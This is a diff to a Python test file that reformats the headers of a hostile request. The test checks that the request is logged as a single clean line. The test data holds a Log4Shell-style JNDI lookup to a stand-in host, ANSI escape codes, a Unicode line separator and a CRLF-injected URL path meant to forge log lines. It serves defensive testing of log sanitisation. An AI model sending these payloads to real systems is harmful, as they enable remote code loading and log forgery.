@@ -159,7 +159,11 @@ def test_a_hostile_user_agent_is_kept_cut_and_cleaned_and_breaks_no_line(api: Ap
 
 def test_a_hostile_request_is_one_line_of_the_log(api: Api, log: io.StringIO):
     alice = api.sign_in()
-    hostile = {"User-Agent": "\x1b[31m${jndi:ldap://evil.example}", "X-Forwarded-For": "203.0.113.9", "Referer": "\u2028"}
+    hostile = {
+        "User-Agent": "\x1b[31m${jndi:ldap://evil.example}",
+        "X-Forwarded-For": "203.0.113.9",
+        "Referer": "\u2028",
+    }
     before = len(log.getvalue().splitlines())
     sent = [(name, value.encode()) for name, value in {**alice.bearer, **hostile}.items()]
     api.get("/%0d%0a%1b[31m%E2%80%A8fake", sent)
